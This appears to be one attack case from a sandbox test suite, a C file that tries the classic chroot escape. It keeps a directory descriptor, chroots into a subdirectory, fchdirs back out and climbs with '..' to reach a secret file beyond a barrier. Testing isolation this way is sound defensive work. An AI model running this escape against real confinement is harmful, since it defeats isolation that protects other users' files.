// tries: leave by the classic escape: chroot(2) into a directory below while a descriptor of one above is kept, then `..`
// wall: the view's barrier directory
// control: root
// needs: tree
#include "attack.h"
ATTACK
{
    char jail[256];
    sc(__NR_mkdir, own(jail, "jail"), 0755);
    long above = sc(__NR_openat, AT("."), O_RDONLY | O_DIRECTORY);
    if (above < 0) cannot("opening .", above);
    if (!attempt("chroot", sc(__NR_chroot, jail))) return;
    sc(__NR_fchdir, above);
    for (int i = 0; i < 64; i++) sc(__NR_chdir, "..");
    attempt("chroot up", sc(__NR_chroot, "."));
    carried_out = 0;
    show_file(text("secret_file"));
}
